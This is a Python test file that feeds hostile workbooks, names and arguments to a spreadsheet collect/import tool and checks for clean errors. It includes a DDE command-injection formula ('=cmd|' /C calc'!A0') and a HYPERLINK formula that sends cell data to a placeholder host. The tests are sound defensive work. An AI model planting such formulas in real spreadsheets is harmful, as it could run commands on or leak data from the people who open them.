"""Hostile workbooks and plans for `plansite collect` and `plansite import` (issue 25, parts 2 and 4).

Each case starts from the synthetic office of tests/test_sheets.py (a plan, its 2024 results from new-year and
the workbooks collect wrote), changes one thing, runs one command, and says what must happen: the exit code and
the first line of the output. The runner also checks that nothing ends in a traceback and that no file outside
the command's own output (`output`, globs) changed.
"""

from __future__ import annotations

import datetime
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from openpyxl import load_workbook
from openpyxl.worksheet.formula import ArrayFormula

from ...test_sheets import PROJECTS

BOOKS = Path("workbooks/sheets-2024")
RESULTS = "results/sheets/2024/projects/*.yaml"


@dataclass(frozen=True)
class SheetCase:
    id: str
    bullet: str  # the bullet of the issue it covers
    args: tuple[str, ...]
    exit_code: int
    first_line: str  # a part of the output's first line
    projects: dict[str, str] = field(default_factory=lambda: dict(PROJECTS))
    new_year: bool = True  # new-year has written the year's results files before
    collected: bool = True  # collect has run before the case's command
    prepare: Callable[[], None] | None = None
    output: tuple[str, ...] = ()  # globs of the files the command may write
    check: Callable[[], None] | None = None  # more to check afterwards


def _department(name: str) -> dict[str, str]:
    text = PROJECTS["1-1-1"].replace("{ko: 가과, en: Division A}", "{ko: " + json.dumps(name, ensure_ascii=False) + "}")
    return {**PROJECTS, "1-1-1": text}


def _named(name: str) -> dict[str, str]:
    quoted = json.dumps(name, ensure_ascii=False)
    return {**PROJECTS, "1-1-1": PROJECTS["1-1-1"].replace("{ko: 방문 수, en: Visits}", "{ko: " + quoted + "}")}


def _edited(name: str, cells: dict[str, object], sheet: str = "성과지표") -> Callable[[], None]:
    def prepare() -> None:
        book = load_workbook(BOOKS / "가과.xlsx")
        for cell, value in cells.items():
            book[sheet][cell] = value
        book.save(name)

    return prepare


def _raw(name: str, xml: str) -> Callable[[], None]:
    """I3 of the indicator sheet as raw XML, what openpyxl would not write."""

    def prepare() -> None:
        _edited(name, {"I3": "PLACEHOLDER"})()
        with zipfile.ZipFile(name) as archive:
            parts = {info.filename: archive.read(info) for info in archive.infolist()}
        sheet = next(part for part, data in parts.items() if b"PLACEHOLDER" in data)
        data = parts[sheet].decode()
        start = data.index('<c r="I3"')
        end = data.index("</c>", start) + len("</c>")
        style = data[start:end].split('s="')[1].split('"')[0]
        parts[sheet] = (data[:start] + f'<c r="I3" s="{style}"{xml}' + data[end:]).encode()
        with zipfile.ZipFile(name, "w") as archive:
            for part, content in parts.items():
                archive.writestr(part, content)

    return prepare


def _chart_sheet(name: str, title: str) -> Callable[[], None]:
    def prepare() -> None:
        book = load_workbook(BOOKS / "가과.xlsx")
        if title in book.sheetnames:
            index = book.sheetnames.index(title)
            book.remove(book[title])
            book.create_chartsheet(title, index)
        else:
            book.create_chartsheet(title)
        book.save(name)

    return prepare


def _crlf_results(narrative: bool = False) -> None:
    """The results file as other editors leave it: a BOM, a document marker, CRLF, four-space indents; and with
    `narrative`, a block text (whose final line break the workbook cannot hold)."""
    path = Path("results/sheets/2024/projects/1-1-1.yaml")
    text = path.read_bytes().replace(b"\n    ", b"\n      ").replace(b"\n  - ", b"\n    - ")
    if narrative:
        block = "      narrative:\n        ko: |\n          첫 줄\n          둘째 줄\n".encode()
        text = text.replace(b"      actual: null\n", b"      actual: null\n" + block, 1)
    path.write_bytes(b"\xef\xbb\xbf---\r\n" + text.replace(b"\n", b"\r\n"))


def _untouched() -> None:
    from ...test_sheets import invoke

    _crlf_results(narrative=True)
    assert invoke("collect", "sheets", "2024", "--out", "again").exit_code == 0


def _no_formula_in_books() -> None:
    for book in BOOKS.glob("*.xlsx"):
        with zipfile.ZipFile(book) as archive:
            assert not any(b"<f>" in archive.read(part) for part in archive.namelist()), book


def _only_actual_changed() -> None:
    text = Path("results/sheets/2024/projects/1-1-1.yaml").read_bytes()
    assert text.startswith(b"\xef\xbb\xbf---\r\n") and b"\r\n      actual: 105\r\n" in text
    assert text.count(b"\r\n") == text.count(b"\n") and text.count(b"actual: null") == 2


IMPORT = ("import", "sheets", "2024")
COLLECT = ("collect", "sheets", "2024")
TAKEN = "plansite: again/나과.xlsx: exists, so nothing was written"

CASES = [
    # Part 1: data into spreadsheets stays data.
    SheetCase(
        "formula-text-stays-text",
        "collect writes formulas",
        (*COLLECT, "--deadline", "=cmd|' /C calc'!A0"),
        0,
        "wrote workbooks/sheets-2024/",
        projects=_named('=HYPERLINK("http://x?d="&A1,"x")'),
        collected=False,
        output=("workbooks/sheets-2024/*",),
        check=_no_formula_in_books,
    ),
    SheetCase(
        "names-differ-by-unsafe-characters",
        "one workbook for two departments",
        COLLECT,
        2,
        "plansite: departments 안전/지원과 and 안전:지원과 would share one workbook",
        projects={**_department("안전:지원과"), "1-1-2": PROJECTS["1-1-2"].replace("나과", "안전/지원과")},
        collected=False,
    ),
    SheetCase(
        "name-of-dots",
        "a hidden .xlsx",
        COLLECT,
        2,
        "the department name (..) gives no visible file name",
        projects=_department(".."),
        collected=False,
    ),
    SheetCase(
        "name-too-long",
        "fails after 16 workbooks",
        COLLECT,
        2,
        "is too long for a file name",
        projects=_department("부" * 90),
        collected=False,
    ),
    SheetCase(
        "out-inside-plan-folder",
        "--out inside a plan folder",
        (*COLLECT, "--out", "plans/sheets/books"),
        2,
        "workbooks are not written inside a data folder",
        collected=False,
    ),
    SheetCase(
        "one-workbook-taken",
        "all workbooks or none",
        (*COLLECT, "--out", "again"),
        2,
        TAKEN,
        collected=True,
        prepare=lambda: (Path("again").mkdir(), Path("again/나과.xlsx").write_bytes(b"filled in")),
    ),
    # Part 2: cells mean what the sheet shows.
    SheetCase(
        "figure-400-digits",
        "a 400-digit number",
        (*IMPORT, "a.xlsx"),
        1,
        "a.xlsx:성과지표!I3: the number 999999999999… (400 digits) is too large",
        prepare=_raw("a.xlsx", "><v>" + "9" * 400 + "</v></c>"),
    ),
    SheetCase(
        "figure-full-width",
        "digits of other scripts",
        (*IMPORT, "a.xlsx"),
        1,
        "a.xlsx:성과지표!I3: digits of another script (full-width or the like): '１２００'",
        prepare=_edited("a.xlsx", {"I3": "１２００"}),
    ),
    SheetCase(
        "figure-arabic-indic",
        "digits of other scripts",
        (*IMPORT, "a.xlsx"),
        1,
        "a.xlsx:성과지표!I3: digits of another script",
        prepare=_edited("a.xlsx", {"I3": "١٢٠٠"}),
    ),
    SheetCase(
        "array-formula-no-value",
        "an array formula without a cached value",
        (*IMPORT, "a.xlsx"),
        1,
        "a.xlsx:성과지표!I3: the cell holds a formula whose value was not saved",
        prepare=_edited("a.xlsx", {"I3": ArrayFormula("I3", "=SUM(1)")}),
    ),
    SheetCase(
        "error-value-narrative",
        "#N/A taken as a narrative",
        (*IMPORT, "a.xlsx"),
        1,
        "a.xlsx:성과지표!M3: the cell holds an error value: #N/A",
        prepare=_edited("a.xlsx", {"M3": "#N/A"}),
    ),
    SheetCase(
        "boolean-narrative",
        "a boolean as the text 'True'",
        (*IMPORT, "a.xlsx"),
        1,
        "a.xlsx:성과지표!M3: the cell holds a truth value: TRUE",
        prepare=_edited("a.xlsx", {"M3": True}),
    ),
    SheetCase(
        "date-narrative",
        "a date as '2024-03-01 00:00:00'",
        (*IMPORT, "a.xlsx"),
        1,
        "a.xlsx:성과지표!M3: the cell holds a date or time",
        prepare=_edited("a.xlsx", {"M3": datetime.datetime(2024, 3, 1)}),
    ),
    SheetCase(
        "escape-control",
        "the sheet's escapes taken literally",
        (*IMPORT, "a.xlsx"),
        1,
        "a.xlsx:성과지표!M3: ",
        prepare=_edited("a.xlsx", {"M3": "a_x001B_b"}),
    ),
    SheetCase(
        "chart-sheet-as-metadata",
        "a chart sheet in place of the metadata sheet",
        (*IMPORT, "a.xlsx"),
        1,
        "a.xlsx:1:1: a part of this workbook cannot be read",
        prepare=_chart_sheet("a.xlsx", "plansite"),
    ),
    SheetCase(
        "chart-sheet-as-indicators",
        "a chart sheet in place of the indicator sheet",
        (*IMPORT, "a.xlsx"),
        1,
        "a.xlsx:1:1: a part of this workbook cannot be read",
        prepare=_chart_sheet("a.xlsx", "성과지표"),
    ),
    SheetCase(
        "extra-chart-sheet",
        "an extra chart sheet without a drawing",
        (*IMPORT, "a.xlsx"),
        1,
        "a.xlsx:1:1: a part of this workbook cannot be read",
        prepare=_chart_sheet("a.xlsx", "차트"),
    ),
    SheetCase("dev-zero", "/dev/zero", (*IMPORT, "/dev/zero"), 1, "/dev/zero:1:1: this is not a regular file"),
    SheetCase(
        "link-to-dev-zero",
        "a link to /dev/zero",
        (*IMPORT, "z.xlsx"),
        1,
        "z.xlsx:1:1: this is a link",
        prepare=lambda: Path("z.xlsx").symlink_to("/dev/zero"),
    ),
    SheetCase(
        "fifo",
        "a FIFO hangs",
        (*IMPORT, "p.xlsx"),
        1,
        "p.xlsx:1:1: this is not a regular file",
        prepare=lambda: os.mkfifo("p.xlsx"),
    ),
    SheetCase(
        # new-year's text quotes names safely now (generator/data/newyear.py), so the year imports whole.
        "multi-line-name",
        "a multi-line indicator name",
        (*IMPORT, str(BOOKS / "가과.xlsx")),
        0,
        "What this change does to the data",
        projects=_named("방문\n수"),
        new_year=False,
        output=(RESULTS, "results/sheets/2024/check.yaml"),
    ),
    # Part 3: the rewrite touches only the changed values' lines.
    SheetCase(
        "untouched-workbook-crlf-bom-markers",
        "an untouched workbook is refused as an overwrite",
        (*IMPORT, "again/가과.xlsx"),
        0,
        "0 file(s) written",
        prepare=_untouched,
        output=("again/*",),
    ),
    SheetCase(
        "one-change-crlf-bom-markers",
        "the rewrite touches more than the values",
        (*IMPORT, "a.xlsx"),
        0,
        "What this change does to the data",
        output=(RESULTS,),
        prepare=lambda: (_crlf_results(), _edited("a.xlsx", {"I3": 105})()),
        check=_only_actual_changed,
    ),
]
